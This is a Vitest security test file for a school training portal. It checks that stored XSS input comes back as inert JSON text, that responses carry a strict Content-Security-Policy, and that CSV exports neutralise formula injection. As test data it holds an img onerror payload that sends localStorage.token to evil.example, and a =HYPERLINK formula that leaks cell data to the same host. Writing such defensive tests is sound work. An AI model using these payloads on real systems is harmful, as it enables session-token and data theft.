import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCHOOL_ENDPOINTS } from '../../../contract/schools.endpoints';
import { demoSignIns } from '../fixtures';
import { startTestPortal, type TestPortal } from '../portal';

/**
 * Attack class: stored XSS. What users type is stored as they typed it and only ever sent as JSON data
 * (React renders it as text); the pages' Content-Security-Policy runs no inline script and loads
 * nothing from elsewhere; and a CSV export neutralises cells a spreadsheet would run as formulas.
 */

let t: TestPortal;
let tokens: Awaited<ReturnType<typeof demoSignIns>>;
const SCRIPT_NAME = '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">';

beforeAll(async () => {
  t = await startTestPortal();
  tokens = await demoSignIns(t);
});
afterAll(() => t?.close());

describe('stored XSS', () => {
  it('markup typed into a name comes back as JSON text, as typed', async () => {
    const saved = await t.request('POST', '/api/training-school-admin/update-user-training-school-profile', {
      token: tokens.school1,
      json: { name: SCRIPT_NAME, email: 'school1@example.org' },
    });
    expect(saved.status).toBe(200);
    const profile = await t.request('GET', '/api/training-school-admin/user-profile-information', {
      token: tokens.school1,
    });
    expect(profile.headers.get('content-type')).toMatch(/^application\/json/);
    expect(profile.body.data.name).toBe(SCRIPT_NAME);
  });

  it('every answer carries a CSP that runs no inline script and sends nothing elsewhere', async () => {
    const response = await fetch(t.url + '/api/health');
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self' 'unsafe-eval'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('a school named like a formula is exported as text, not a formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const created = await t.request('POST', SCHOOL_ENDPOINTS.create.path, {
      token: tokens.admin,
      json: { name: formula, code: 'XSS-01', state: 'Oyo', country: 'NG' },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(200);
    const csv = await t.request('GET', `${SCHOOL_ENDPOINTS.list.path}?format=csv&search=HYPERLINK`, {
      token: tokens.admin,
    });
    expect(csv.status).toBe(200);
    const lines = (csv.body as string).split(/\r?\n/);
    expect(lines.some((line) => line.includes(`'=HYPERLINK`))).toBe(true);
    expect(lines.some((line) => /(^|,)"?=/.test(line))).toBe(false);
  });
});
